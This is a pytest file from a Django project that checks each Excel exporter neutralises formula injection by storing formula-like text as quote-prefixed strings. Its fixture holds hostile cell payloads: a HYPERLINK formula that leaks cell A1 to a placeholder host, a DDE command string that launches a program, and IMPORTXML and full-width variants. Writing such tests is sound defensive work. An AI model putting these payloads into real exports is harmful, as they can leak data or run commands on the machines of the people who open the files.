"""Every Excel export writes text that looks like a formula as text: never a formula cell, always
a string cell with Excel's quote prefix, reading back as the text that was stored.

One test per exporter, over a world whose names, units, titles, addresses and notes begin with
= + - @ (and their full-width forms), a tab or a carriage return; and a guard that fails when a
new exporter is added without a test here."""

from __future__ import annotations

import io
from datetime import date, datetime

import openpyxl
import pytest
from django.utils import timezone

from laomo.audit.exporters import AuditLogExporter
from laomo.audit.models import AuditEntry
from laomo.core.exporters import FORMULA_TRIGGERS, ListExporter
from laomo.core.scoping import Scope
from laomo.core.testing.factories import HonourFactory
from laomo.halfyear import services as halfyear_services
from laomo.halfyear.documents import HalfYearExporter
from laomo.outreach.choices import Form, Level, Status, Venue
from laomo.outreach.documents import TalkLedgerExporter
from laomo.outreach.models import Talk
from laomo.oversight.exporters import CoverageSchoolExporter
from laomo.people.exporters import PersonListExporter
from laomo.people.models import LectureGroup, Person
from laomo.people.roster import RosterExporter
from laomo.schools.exporters import SchoolListExporter
from laomo.schools.models import School

# What a hostile user types into a text field, hoping an official opens the export in Excel.
PERSON_UNIT = '=HYPERLINK("http://example.invalid/?"&A1,"点此")'
PERSON_POST = "+SUM(1,2)"
PERSON_NOTE = "-2+3"
HONOUR = "@SUM(A1:A9)"
TOPIC = "＝1+1"  # full-width, which Excel and WPS also take for a formula
SCHOOL_NAME = "=cmd|' /C calc'!A0"
SCHOOL_ADDRESS = "\t=1+1"
GROUP_NAME = "-1+1宣讲团"
TALK_TITLE = "@IMPORTXML(A1)"
REGION_NAME = "＋区"


def _cells(data: bytes):
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_formula_safe(data: bytes, *expected: str) -> None:
    """No formula cell; every formula-looking string a quote-prefixed text cell; and the hostile
    texts really in the export (else the test proves nothing)."""
    texts = []
    for cell in _cells(data):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            texts.append(cell.value)
            if cell.value.startswith(FORMULA_TRIGGERS):
                assert cell.data_type == "s", (cell.coordinate, cell.value)
                assert cell.quotePrefix, (cell.coordinate, cell.value)
    joined = "\n".join(texts)
    for text in expected:
        assert text in joined, text


def _half_of(year: int, half: int) -> datetime:
    return timezone.make_aware(datetime(year, 3 if half == 1 else 9, 15, 9))


@pytest.fixture
def hostile(world):
    a = world.a
    Person.objects.unrestricted().filter(pk=a.person.pk).update(
        unit=PERSON_UNIT, post=PERSON_POST, note=PERSON_NOTE, topics=f"{TOPIC}\n-主题"
    )
    HonourFactory(person=a.person, title=HONOUR, level="city")
    School.objects.unrestricted().filter(pk=a.school.pk).update(
        name=SCHOOL_NAME, address=SCHOOL_ADDRESS
    )
    LectureGroup.objects.unrestricted().filter(pk=a.group.pk).update(name=GROUP_NAME)
    a.region.name = REGION_NAME
    a.region.save()
    year, half = halfyear_services.latest_ended_half(timezone.localdate())
    starts = _half_of(year, half)
    Talk.objects.create(
        title=TALK_TITLE,
        level=Level.COUNTY,
        organiser_region=a.region,
        region=a.region,
        school=School.objects.unrestricted().get(pk=a.school.pk),
        starts_at=starts,
        ends_at=starts.replace(hour=11),
        starts_on=starts.date(),
        venue=Venue.HALL,
        form=Form.FIRST_LESSON,
        status=Status.HELD,
    )
    return world


def test_person_list(hostile):
    data = PersonListExporter(Person.objects.unrestricted()).render()
    assert_formula_safe(data, PERSON_UNIT + PERSON_POST, HONOUR, TOPIC, REGION_NAME)


def test_school_list(hostile):
    data = SchoolListExporter(School.objects.unrestricted()).render()
    assert_formula_safe(data, SCHOOL_NAME, SCHOOL_ADDRESS, REGION_NAME)


def test_coverage_list(hostile):
    data = CoverageSchoolExporter(
        School.objects.unrestricted(), region=hostile.a.region, as_of=date.today(), mode="all"
    ).render()
    assert_formula_safe(data, SCHOOL_NAME, SCHOOL_ADDRESS, REGION_NAME)


def test_talk_ledger(hostile):
    data = TalkLedgerExporter(Talk.objects.unrestricted(), region=hostile.a.region).render()
    assert_formula_safe(data, TALK_TITLE, SCHOOL_NAME, REGION_NAME)


def test_roster(hostile):
    group = LectureGroup.objects.unrestricted().get(pk=hostile.a.group.pk)
    data = RosterExporter(group).render()
    assert_formula_safe(data, GROUP_NAME, PERSON_UNIT + PERSON_POST, HONOUR, PERSON_NOTE)


def test_half_year_report(hostile):
    user = hostile.user("county_union_a")
    year, half = halfyear_services.latest_ended_half(timezone.localdate())
    report, _created = halfyear_services.open_report(
        scope=Scope.for_user(user), year=year, half=half, acting_user=user
    )
    data = HalfYearExporter(report).render()
    assert_formula_safe(data, TALK_TITLE, REGION_NAME)


def test_audit_log(hostile):
    AuditEntry.objects.create(
        actor_name=PERSON_POST,
        action=AuditEntry.Action.UPDATE,
        object_type="people.person",
        object_id=str(hostile.a.person.pk),
        object_repr=SCHOOL_NAME,
        region_path=hostile.city.path,
        data={"reason": HONOUR},
    )
    data = AuditLogExporter(AuditEntry.objects.unrestricted()).render()
    assert_formula_safe(data, PERSON_POST, SCHOOL_NAME, HONOUR)


def test_the_writer_itself_on_every_trigger():
    from laomo.core.exporters import write_cell

    book = openpyxl.Workbook()
    for row, trigger in enumerate(FORMULA_TRIGGERS, start=1):
        write_cell(book.active, row, 1, f"{trigger}1+1")
    write_cell(book.active, len(FORMULA_TRIGGERS) + 1, 1, "普通文字")
    buffer = io.BytesIO()
    book.save(buffer)
    cells = list(_cells(buffer.getvalue()))
    assert [c.value for c in cells[:-1]] == [f"{t}1+1" for t in FORMULA_TRIGGERS]
    assert all(c.quotePrefix and c.data_type == "s" for c in cells[:-1])
    assert not cells[-1].quotePrefix


TESTED = {
    PersonListExporter: test_person_list,
    SchoolListExporter: test_school_list,
    CoverageSchoolExporter: test_coverage_list,
    TalkLedgerExporter: test_talk_ledger,
    RosterExporter: test_roster,
    HalfYearExporter: test_half_year_report,
}
if AuditLogExporter is not None:
    TESTED[AuditLogExporter] = test_audit_log


def _subclasses(cls):
    for sub in cls.__subclasses__():
        yield sub
        yield from _subclasses(sub)


def test_every_exporter_is_tested_here():
    from django.apps import apps

    from laomo.core.testing.matrix import url_patterns

    url_patterns()  # imports every view module, and with them every exporter
    for config in apps.get_app_configs():
        if config.name.startswith("laomo."):
            for module in ("exporters", "documents", "roster"):
                try:
                    __import__(f"{config.name}.{module}")
                except ModuleNotFoundError as exc:
                    if exc.name != f"{config.name}.{module}":
                        raise
    found = {cls for cls in _subclasses(ListExporter) if cls.__module__.startswith("laomo.")}
    found = {cls for cls in found if ".tests." not in cls.__module__}
    assert found == set(TESTED), found ^ set(TESTED)
